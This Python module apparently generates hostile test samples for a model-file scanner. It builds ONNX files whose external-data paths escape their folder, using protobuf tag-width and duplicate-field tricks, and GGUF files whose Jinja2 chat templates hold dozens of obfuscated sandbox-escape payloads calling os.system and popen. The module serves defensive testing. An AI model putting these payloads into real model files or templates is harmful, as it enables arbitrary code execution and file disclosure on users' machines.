"""ONNX files that lead out of their folder, GGUF templates that reach for Python."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from tests.proof.hostile.gadgets import MARK_COMMAND
from tests.proof.samples import Sample

SECRET = b"what lies outside of the folder"
SHELL = MARK_COMMAND.replace('"', '\\"')


def samples() -> Iterator[Sample]:
    """Yield tries."""
    yield from _onnx()
    yield from _gguf()


def varint(number: int, width: int = 0) -> bytes:
    """Return a number as protobuf writes it; `width` bytes at least."""
    out = bytearray()
    while number > 0x7F or len(out) + 1 < width:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*out, number])


def field(number: int, content: bytes | int, *, high: int = 0, width: int = 0) -> bytes:
    """Return a field; `high` are bits of its tag above the 32 that readers in C++ keep."""
    kind = 0 if isinstance(content, int) else 2
    tag = varint((high << 32) | number << 3 | kind, width)
    if isinstance(content, int):
        return tag + varint(content)
    return tag + varint(len(content), width) + content


def _model(tensor: bytes, *, where: str = "initializer", **odd: int) -> bytes:
    graph = field(2, b"g") + (field(5, tensor, **odd) if where == "initializer" else b"")
    if where == "attribute":
        attribute = field(1, b"value") + field(5, tensor, **odd) + field(20, 4)
        graph += field(1, field(2, b"c") + field(4, b"Constant") + field(5, attribute))
    elif where == "subgraph":
        inner = field(2, b"i") + field(5, tensor, **odd)
        attribute = field(1, b"then_branch") + field(6, inner) + field(20, 5)
        graph += field(1, field(2, b"y") + field(4, b"If") + field(5, attribute))
    elif where == "sparse":
        graph += field(15, field(1, tensor) + field(2, tensor))
    elif where == "function":
        attribute = field(1, b"value") + field(5, tensor, **odd) + field(20, 4)
        node = field(2, b"c") + field(4, b"Constant") + field(5, attribute)
        function = field(1, b"f") + field(7, node) + field(9, field(2, 16)) + field(10, b"d")
        return field(1, 8) + field(7, graph) + field(25, function) + field(8, field(2, 16))
    return field(1, 8) + field(7, graph) + field(8, field(2, 16))


def _outside(location: str, **odd: int) -> bytes:
    entry = field(1, b"location") + field(2, location.encode())
    shape = field(1, len(SECRET)) + field(2, 3)
    return shape + field(8, b"w") + field(13, entry, **odd) + field(14, 1)


def _onnx() -> Iterator[Sample]:
    family = "ONNX: data outside of the folder"
    leads = {
        "up": "../outside",
        "upper": "../../outside",
        "absolute": "/etc/hostname",
        "mixed": "x/../../outside",
        "dot": "./../outside",
        "slashes": "..//outside",
    }
    for name, location in leads.items():
        yield Sample(f"onnx_{name}.onnx", family, "onnx.checker", _model(_outside(location)))
        for where in ("attribute", "subgraph", "sparse", "function"):
            data = _model(_outside(location), where=where)
            yield Sample(f"onnx_{name}_{where}.onnx", family, "onnx.checker", data)
        yield Sample(f"onnx_{name}.bin", family, "onnx.checker", _model(_outside(location)))
    family = "ONNX: tags and lengths that readers of 32 and 64 bits take differently"
    for high in (1, 3, 7):
        for width in (0, 10):
            data = _model(_outside("../outside"), high=high, width=width)
            yield Sample(f"onnx_graph_tag_{high}_{width}.onnx", family, "onnx.checker", data)
            data = _model(_outside("../outside", high=high, width=width))
            yield Sample(f"onnx_entry_tag_{high}_{width}.onnx", family, "onnx.checker", data)
    for width in (2, 4, 5):
        data = _model(_outside("../outside", width=width), width=width)
        yield Sample(f"onnx_long_tag_{width}.onnx", family, "onnx.checker", data)
    key = field(1, b"location", high=1) + field(2, b"../outside")
    told = field(1, 31) + field(2, 3) + field(8, b"w") + field(13, key) + field(14, 1)
    yield Sample("onnx_key_tag.onnx", family, "onnx.checker", _model(told))
    value = field(1, b"location") + field(2, b"../outside", high=2)
    told = field(1, 31) + field(2, 3) + field(8, b"w") + field(13, value) + field(14, 1)
    yield Sample("onnx_value_tag.onnx", family, "onnx.checker", _model(told))
    family = "ONNX: a field that is told twice, of which the last counts"
    entry = field(1, b"location") + field(2, b"inside") + field(2, b"../outside")
    twice = field(1, 31) + field(2, 3) + field(8, b"w") + field(13, entry) + field(14, 1)
    yield Sample("onnx_location_twice.onnx", family, "onnx.checker", _model(twice))
    entries = field(13, field(1, b"location") + field(2, b"inside")) + field(
        13, field(1, b"location") + field(2, b"../outside")
    )
    yield Sample(
        "onnx_entries_twice.onnx",
        family,
        "onnx.checker",
        _model(field(1, 31) + field(2, 3) + field(8, b"w") + entries + field(14, 1)),
    )
    late = field(14, 0) + _outside("../outside")
    yield Sample("onnx_late.onnx", family, "onnx.checker", _model(late))
    merged = _model(field(8, b"w")) + field(7, field(5, _outside("../outside")))
    yield Sample("onnx_merged.onnx", family, "onnx.checker", merged)


def _gguf() -> Iterator[Sample]:
    family = "GGUF: a chat template that reaches for Python"
    reach = f".__init__.__globals__.os.system('{SHELL}')"
    by_name = "|attr('__init__')|attr('__globals__')"
    templates = {
        "cycler": f"{{{{ cycler{reach} }}}}",
        "joiner": f"{{{{ joiner{reach} }}}}",
        "namespace": f"{{{{ namespace{reach} }}}}",
        "lipsum": f"{{{{ lipsum.__globals__['os'].popen('{SHELL}').read() }}}}",
        "lipsum_item": f"{{{{ lipsum['__globals__']['os'].system('{SHELL}') }}}}",
        "filter": f"{{{{ (cycler{by_name}).os.system('{SHELL}') }}}}",
        "computed": f"{{% set a = '__in' ~ 'it__' %}}{{{{ cycler[a]['__glo' + 'bals__'].os.system('{SHELL}') }}}}",
        "computed_filter": f"{{{{ (cycler|attr('__%s__'|format('init')))['__globals__'].os.system('{SHELL}') }}}}",
        "reversed": f"{{{{ cycler['__tini__'|reverse]['__globals__'].os.system('{SHELL}') }}}}",
        "joined": f"{{{{ cycler[['__','init','__']|join]['__globals__'].os.system('{SHELL}') }}}}",
        "map": f"{{{{ ([cycler]|map(attribute='__init__')|list)[0].__globals__.os.system('{SHELL}') }}}}",
        "map_dotted": f"{{{{ ([cycler]|map(attribute='__init__.__globals__')|list)[0].os.system('{SHELL}') }}}}",
        "map_attr": f"{{{{ ([cycler]|map('attr', '__init__')|list)[0]['__globals__'].os.system('{SHELL}') }}}}",
        "selected": f"{{{{ ({{'a': lipsum}}|items|map('last')|map('attr','__globals__')|list)[0].os.system('{SHELL}') }}}}",
        "escape": f"{{{{ cycler['\\x5f_init_\\x5f']['\\x5f_globals__'].os.system('{SHELL}') }}}}",
        "class": f"{{{{ ''.__class__.__mro__[1].__subclasses__() | length }}}}{{{{ cycler{reach} }}}}",
        "subclasses": "{% for c in ''.__class__.__base__.__subclasses__() %}{% if c.__name__ == '_wrap_close' %}"
        f"{{{{ c{reach.replace('os.', '', 1)} }}}}{{% endif %}}{{% endfor %}}",
        "macro": f"{{% macro m(x) %}}{{{{ x{reach} }}}}{{% endmacro %}}{{{{ m(cycler) }}}}",
        "self": f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').system('{SHELL}') }}}}",
        "undefined": f"{{{{ nothing.__class__.__init__.__globals__.__builtins__.__import__('os').system('{SHELL}') }}}}",
        "format": f"{{{{ '%s'|format(cycler{reach}) }}}}",
        "condition": f"{{% if cycler{reach} %}}{{% endif %}}",
        "set": f"{{% set x = cycler{reach} %}}",
        "loop": f"{{% for x in [cycler] %}}{{{{ x{reach} }}}}{{% endfor %}}",
        "comment_first": f"{{# fine #}}{{% for m in messages %}}{{{{ m.content }}}}{{% endfor %}}{{{{ cycler{reach} }}}}",
        "filter_block": f"{{% filter upper %}}{{{{ cycler{reach} }}}}{{% endfilter %}}",
        "call_block": f"{{% macro m() %}}{{{{ caller() }}}}{{% endmacro %}}{{% call m() %}}{{{{ cycler{reach} }}}}{{% endcall %}}",
        "groupby": f"{{{{ ([cycler]|groupby('__init__.__globals__.os.system')|list)[0].grouper('{SHELL}') }}}}",
        "sum": f"{{{{ ([lipsum]|sum(attribute='__globals__', start={{}})) }}}}{{{{ cycler{reach} }}}}",
        "sort": f"{{{{ ([lipsum]|sort(attribute='__name__')|first).__globals__.os.system('{SHELL}') }}}}",
        "dict_item": f"{{{{ {{'a': lipsum}}['a']['__globals__']['os']['system']('{SHELL}') }}}}",
        "line_break": f"{{{{ cycler.\n__init__.__globals__.os.system('{SHELL}') }}}}",
    }
    for name, template in templates.items():
        yield Sample(f"template_{name}.gguf", family, "gguf+jinja2", gguf(template))
    for key in ("tokenizer.chat_template.tool_use", "tokenizer.chat_template.rag"):
        data = gguf(templates["cycler"], key)
        yield Sample(f"{key.rpartition('.')[2]}.gguf", family, "gguf+jinja2", data)
    yield Sample("template_unnamed.bin", family, "gguf+jinja2", gguf(templates["lipsum"]))
    yield Sample(
        "template_big_endian.gguf", family, "gguf+jinja2", gguf(templates["lipsum"], order=">")
    )
    yield Sample(
        "template_second.gguf", family, "gguf+jinja2", gguf(templates["lipsum"], before="{{ 1 }}")
    )


def gguf(
    template: str, key: str = "tokenizer.chat_template", *, order: str = "<", before: str = ""
) -> bytes:
    """Return a GGUF file with one tensor and a template."""

    def text(told: str) -> bytes:
        return struct.pack(f"{order}Q", len(told.encode())) + told.encode()

    def pair(name: str, told: str) -> bytes:
        return text(name) + struct.pack(f"{order}I", 8) + text(told)

    pairs = [pair("general.architecture", "llama")]
    if before:
        pairs.append(pair("tokenizer.chat_template.default", before))
    pairs.append(pair(key, template))
    tensor = text("token_embd.weight") + struct.pack(f"{order}IQIQ", 1, 8, 0, 0)
    start = b"GGUF" + struct.pack(f"{order}IQQ", 3, 1, len(pairs)) + b"".join(pairs) + tensor
    return start + b"\0" * (-len(start) % 32) + b"\0" * 32
